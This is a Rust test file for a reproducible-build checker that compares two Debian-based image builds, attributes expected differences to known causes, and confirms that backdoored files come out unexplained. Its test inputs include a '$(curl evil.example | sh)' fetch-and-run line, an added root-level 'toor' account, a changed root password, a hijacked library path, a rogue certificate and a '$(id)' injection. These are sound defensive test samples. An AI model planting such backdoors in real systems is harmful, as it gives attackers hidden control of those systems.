//! Two builds of one large image, made without `SOURCE_DATE_EPOCH`: every difference has a
//! cause that looked at the bytes, and what is put into an explained file is seen.
//!
//! The builds take minutes, half a gigabyte each, and the network: `REPROVE_TEST_FAT=1` has
//! them made, and a folder with `published.tar` and `rebuilt.tar` in it has those taken.

use std::{
    collections::{BTreeMap, BTreeSet},
    env, fs,
    path::{Path, PathBuf},
    process::Command,
};

use reprove::{
    compare::content::{Limits, content},
    explain::{Examined, File, examine},
    image::{Access, EntryPath},
    inventory::Inventory,
    pair::Pair,
    progress::Silent,
    report::{Report, html, markdown, text},
    verdict::{Policy, Rules},
    verify::{DiffRequest, World, diff},
};

use crate::{
    changes::{
        archive::{Archive, Member},
        image::{Image, Layer, digest, gzip},
    },
    fuzz_seeds::content::{key_store, ld_cache, ssh_private_key},
    support::{skip, sums::closed},
};

/// What is installed: packages that make keys, ids, caches and logs when they are.
const PACKAGES: &str = "openssh-server,default-jre-headless,ca-certificates-java,fontconfig,\
    fonts-dejavu-core,ssl-cert,dbus,python3,man-db,systemd,cron,locales,libcap2-bin,iputils-ping";

/// The causes that two builds of one day show, and how many files each explains.
const EXPECTED: [(&str, usize); 9] = [
    ("alternatives-log", 1),
    ("apt-logs", 2),
    ("dpkg-log", 1),
    ("fontconfig", 4),
    ("java-cacerts", 1),
    ("ldconfig-aux", 1),
    ("machine-id", 2),
    ("snakeoil", 2),
    ("ssh-hostkeys", 6),
];

/// Compares two layouts.
pub(crate) fn report(images: Pair<&Path>, scratch: &Path) -> Report {
    let world = World {
        cache: &scratch.join("cache"),
        scratch,
        access: &Access::default(),
        progress: &Silent,
        clock: || jiff::Timestamp::constant(1_764_000_000, 0),
    };
    let name = |folder: &Path| format!("oci:{}", folder.display()).parse().unwrap();
    let request = DiffRequest {
        published: name(images.published),
        rebuilt: name(images.rebuilt),
        platform: Some("linux/amd64".parse().unwrap()),
        policy: Policy::builtin(Rules::Standard),
        rerun: Vec::new(),
    };
    closed(diff(&request, &world).unwrap())
}

/// Looks into one file as the second pass does.
fn look(path: &str, published: &[u8], rebuilt: &[u8]) -> Examined {
    let none = Inventory::default();
    let bytes = Pair::new(published, rebuilt);
    let content = content(path.as_bytes(), bytes, &mut Limits::default());
    assert!(!content.parts.is_empty() || content.left_out > 0, "{path}");
    examine(&File {
        path: &EntryPath::of(path.as_bytes()),
        bytes,
        content: &content,
        inventories: Pair::new(&none, &none),
    })
}

/// A file of two builds that differs for a known cause.
pub(crate) struct Known {
    pub(crate) path: &'static str,
    pub(crate) published: Vec<u8>,
    pub(crate) rebuilt: Vec<u8>,
    cause: &'static str,
}

/// Returns small files as two builds leave them, in order of their paths.
pub(crate) fn known() -> Vec<Known> {
    let known = |path, cause, sides: [Vec<u8>; 2]| {
        let [published, rebuilt] = sides;
        Known {
            path,
            published,
            rebuilt,
            cause,
        }
    };
    let text = |sides: [&str; 2]| sides.map(|text| text.as_bytes().to_vec());
    // One build a minute after the other.
    let late = |text: &str| [text.to_owned(), text.replace(" 01:36:", " 01:37:")];
    let late = |log: &str| late(log).map(String::into_bytes);
    let public = |key: &str| format!("ssh-ed25519 {key} root@vm\n").into_bytes();
    let libraries = [
        ("libc.so.6", "/lib/libc.so.6"),
        ("libm.so.6", "/lib/libm.so.6"),
    ];
    vec![
        known(
            "etc/group",
            "account-order",
            text(["root:x:0:\nadm:x:4:\n", "adm:x:4:\nroot:x:0:\n"]),
        ),
        known(
            "etc/ld.so.cache",
            "ld.so.cache",
            [
                ld_cache(&libraries, "ldconfig 2.36"),
                ld_cache(&[libraries[1], libraries[0]], "ldconfig 2.36"),
            ],
        ),
        known(
            "etc/machine-id",
            "machine-id",
            ["a", "b"].map(|digit| format!("{}\n", digit.repeat(32)).into_bytes()),
        ),
        known("etc/passwd", "account-order", text(PASSWD)),
        known(
            "etc/shadow",
            "shadow-day",
            ["20782", "20783"]
                .map(|day| format!("root:*:{day}:0:99999:7:::\nbin:!:{day}:::::: \n").into_bytes()),
        ),
        known(
            "etc/ssh/ssh_host_ed25519_key",
            "ssh-hostkeys",
            [1, 2].map(|seed| ssh_private_key(seed, "root@vm", b"")),
        ),
        known(
            "etc/ssh/ssh_host_ed25519_key.pub",
            "ssh-hostkeys",
            [
                public("AAAAC3NzaC1lZDI1NTE5AAAAIAEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEB"),
                public("AAAAC3NzaC1lZDI1NTE5AAAAIAICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgIC"),
            ],
        ),
        known(
            "etc/ssl/certs/java/cacerts",
            "java-cacerts",
            [0, 60_000].map(|late| key_store(&[("one", 1 + late, b"1"), ("two", 2 + late, b"2")])),
        ),
        known(
            "var/log/alternatives.log",
            "alternatives-log",
            late("update-alternatives 2026-11-26 01:36:50: run with --install /usr/bin/awk\n"),
        ),
        known(
            "var/log/apt/history.log",
            "apt-logs",
            late(
                "\nStart-Date: 2026-11-26  01:36:02\nCommandline: apt-get --yes install x\n\
                 Install: x:amd64 (1.0)\nEnd-Date: 2026-11-26  01:36:41\n",
            ),
        ),
        known(
            "var/log/apt/term.log",
            "apt-logs",
            late(
                "\nLog started: 2026-11-26  01:36:02\nSetting up x (1.0) ...\n\
                 Log ended: 2026-11-26  01:36:41\n",
            ),
        ),
        known(
            "var/log/dpkg.log",
            "dpkg-log",
            late(
                "2026-11-26 01:36:24 startup archives install\n\
                 2026-11-26 01:36:25 install libc6:amd64 <none> 2.36-9\n",
            ),
        ),
    ]
}

/// The same accounts in another order.
const PASSWD: [&str; 2] = [
    "root:x:0:0:root:/root:/bin/sh\nbin:x:2:2::/bin:/bin/false\n",
    "bin:x:2:2::/bin:/bin/false\nroot:x:0:0:root:/root:/bin/sh\n",
];

/// Returns what is made of a file to hide something in it, or of a part of it.
fn tampered(file: &[u8]) -> [Vec<u8>; 6] {
    let middle = file.len() / 2;
    let script = b"\n$(curl evil.example | sh)\n";
    [
        [file, script].concat(),
        [script, file].concat(),
        [&file[..middle], script, &file[middle..]].concat(),
        [file, b"\0"].concat(),
        file[..file.len() - 2].to_vec(),
        [file, file].concat(),
    ]
}

/// Compares an image with one that is not written yet.
fn report_of(published: &Path, mut rebuilt: Image) -> Report {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("rebuilt");
    rebuilt.write(&path);
    report(Pair::new(published, &path), folder.path())
}

/// Returns what is written on top as what differs, in each form of a report: both texts,
/// Markdown, HTML.
fn on_top(report: &Report) -> [String; 4] {
    let text = |detail| {
        let text = text::render(report, detail);
        let text = anstream::adapter::strip_str(&text).to_string();
        // Nothing but a place begins so.
        let line = text.lines().find(|line| line.starts_with("  /")).unwrap();
        line.split_whitespace().next().unwrap().to_owned()
    };
    let within = |page: &str, begin: &str, end: &str| {
        let (_, rest) = page.split_once(begin).unwrap();
        rest.split_once(end).unwrap().0.to_owned()
    };
    let markdown = markdown::render(report);
    let mut in_markdown = within(&markdown, "<summary><code>", "</code>");
    for character in ['.', '-', '_', '/'] {
        let reference = format!("&#{};", u32::from(character));
        in_markdown = in_markdown.replace(&reference, &character.to_string());
    }
    let page = html::render(report);
    [
        text(text::Detail::Brief),
        text(text::Detail::Full),
        in_markdown,
        within(&page, "<code class=\"path\">", "</code>"),
    ]
}

/// Asserts that of two builds' differences only this one is unexplained, and that every
/// form of the report has it on top.
#[track_caller]
fn assert_on_top(report: &Report, path: &str, case: &str) {
    let location = format!("/{path}");
    for finding in report
        .findings
        .iter()
        .filter(|it| it.attribute == "content")
    {
        let is_it = finding.location == location;
        assert_eq!(finding.cause.is_none(), is_it, "{case}: {finding:?}");
        assert_eq!(!finding.tried.is_empty(), is_it, "{case}: {finding:?}");
    }
    let four = [(); 4].map(|()| location.clone());
    assert_eq!(on_top(report), four, "{case}");
}

#[test]
fn a_backdoor_in_an_explained_file_is_not_explained_and_comes_first() {
    let known = known();
    let image = |tampered: Option<(&str, &[u8])>| {
        let files = known.iter().map(|file| match tampered {
            Some((path, bytes)) if path == file.path => Member::file(path, bytes),
            _ => Member::file(file.path, &file.rebuilt),
        });
        Image::plain(vec![Layer::new(files.collect())])
    };
    let files = known
        .iter()
        .map(|file| Member::file(file.path, &file.published));
    let folder = tempfile::tempdir().unwrap();
    Image::plain(vec![Layer::new(files.collect())]).write(folder.path());
    let compared = |rebuilt: Image| report_of(folder.path(), rebuilt);

    let honest = compared(image(None));
    let found: Vec<(&str, Option<&str>)> = honest
        .findings
        .iter()
        .filter(|finding| finding.attribute == "content")
        .map(|finding| {
            let cause = finding.cause.as_ref().map(|cause| cause.id.as_str());
            (finding.location.trim_start_matches('/'), cause)
        })
        .collect();
    let expected: Vec<(&str, Option<&str>)> = known
        .iter()
        .map(|file| (file.path, Some(file.cause)))
        .collect();
    assert_eq!(found, expected);
    let told = text::render(&honest, text::Detail::Full);
    assert!(!told.contains("no known reason"), "{told}");

    let libraries = [
        ("libc.so.6", "/lib/libc.so.6"),
        ("libm.so.6", "/tmp/libm.so.6"),
    ];
    let backdoors: [(&str, &str, Vec<u8>); 5] = [
        (
            "a second root account",
            "etc/passwd",
            format!("{}toor:x:0:0::/root:/bin/sh\n", PASSWD[1]).into_bytes(),
        ),
        (
            "a password of root's",
            "etc/shadow",
            b"root:$y$x:20783:0:99999:7:::\nbin:!:20783:::::: \n".to_vec(),
        ),
        (
            "a library from elsewhere",
            "etc/ld.so.cache",
            ld_cache(&libraries, "ldconfig 2.36"),
        ),
        (
            "a certificate more",
            "etc/ssl/certs/java/cacerts",
            key_store(&[("one", 3, b"1"), ("two", 4, b"2"), ("evil", 5, b"3")]),
        ),
        (
            "a command after a private key's comment",
            "etc/ssh/ssh_host_ed25519_key",
            ssh_private_key(2, "root@vm", b"$(id)"),
        ),
    ];
    for (case, path, bytes) in backdoors {
        assert_on_top(&compared(image(Some((path, &bytes)))), path, case);
    }
    for file in &known {
        for (number, bytes) in tampered(&file.rebuilt).iter().enumerate() {
            let report = compared(image(Some((file.path, bytes))));
            assert_on_top(&report, file.path, &format!("{}, case {number}", file.path));
        }
    }
}

#[test]
fn two_fat_builds_differ_only_for_known_causes_and_backdoors_stand_out() {
    let Some(wanted) = env::var_os("REPROVE_TEST_FAT") else {
        skip("two fat builds are made only with REPROVE_TEST_FAT=1");
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let tars = if wanted == "1" {
        let tars = Pair::new("published.tar", "rebuilt.tar").map(|name| folder.path().join(name));
        build(&tars.published);
        build(&tars.rebuilt);
        tars
    } else {
        Pair::new("published.tar", "rebuilt.tar").map(|name| Path::new(&wanted).join(name))
    };
    let sides = Pair::new("published", "rebuilt").map(|name| folder.path().join(name));
    for (tar, side) in [
        (&tars.published, &sides.published),
        (&tars.rebuilt, &sides.rebuilt),
    ] {
        let tar = fs::read(tar).unwrap();
        let mut image = Image::plain(vec![Layer {
            blob: Some(gzip(&tar, 1)),
            ..Layer::new(Vec::new())
        }]);
        image.seal_with(&[digest(&tar)]).write(side);
    }
    let report = report(sides.as_ref().map(PathBuf::as_path), folder.path());
    let mut causes: BTreeMap<&str, usize> = BTreeMap::new();
    let mut files = Vec::new();
    for finding in &report.findings {
        let Some(cause) = &finding.cause else {
            panic!("nothing explains {finding:?}");
        };
        assert!(!cause.evidence.is_empty());
        if finding.attribute == "content" {
            eprintln!("{}: {}: {}", finding.location, cause.id, cause.evidence);
            *causes.entry(&cause.id).or_default() += 1;
            files.push(finding.location.trim_start_matches('/').to_owned());
        }
    }
    assert_eq!(causes, EXPECTED.into());
    // All that differs, and nothing else, so that a comparison takes no minutes.
    let differing: BTreeSet<&str> = report
        .findings
        .iter()
        .map(|finding| finding.location.trim_start_matches('/'))
        .collect();
    let members = tars.as_ref().map(|tar| {
        let mut members = Archive::parse(&fs::read(tar).unwrap()).members;
        members.retain(|member| differing.contains(&*member.path()));
        members
    });
    let image = |members: &[Member]| Image::plain(vec![Layer::new(members.to_vec())]);
    let published = folder.path().join("differing");
    image(&members.published).write(&published);
    let at = |members: &[Member], path: &str| {
        let place = members.iter().position(|member| member.path() == path);
        place.unwrap()
    };
    for (number, path) in files.iter().enumerate() {
        let place = at(&members.rebuilt, path);
        let original = &members.published[at(&members.published, path)].content;
        let honest = &members.rebuilt[place].content;
        assert!(look(path, original, honest).explanation.is_some());
        for (case, bytes) in tampered(honest).into_iter().enumerate() {
            let examined = look(path, original, &bytes);
            assert!(
                examined.explanation.is_none() && !examined.tried.is_empty(),
                "{path}, case {case}: {examined:?}"
            );
            // Whole reports of some thousand findings take a while.
            if case != number % 6 {
                continue;
            }
            let mut rebuilt = members.rebuilt.clone();
            rebuilt[place].set_content(bytes);
            let report = report_of(&published, image(&rebuilt));
            assert_on_top(&report, path, &format!("{path}, case {case}"));
        }
    }
}

fn build(tar: &Path) {
    let status = Command::new("mmdebstrap")
        .args(["--variant=minbase", "--skip=cleanup/reproducible"])
        .arg(format!("--include={PACKAGES}"))
        .arg("bookworm")
        .arg(tar)
        .env_remove("SOURCE_DATE_EPOCH")
        .status()
        .unwrap();
    assert!(status.success());
}
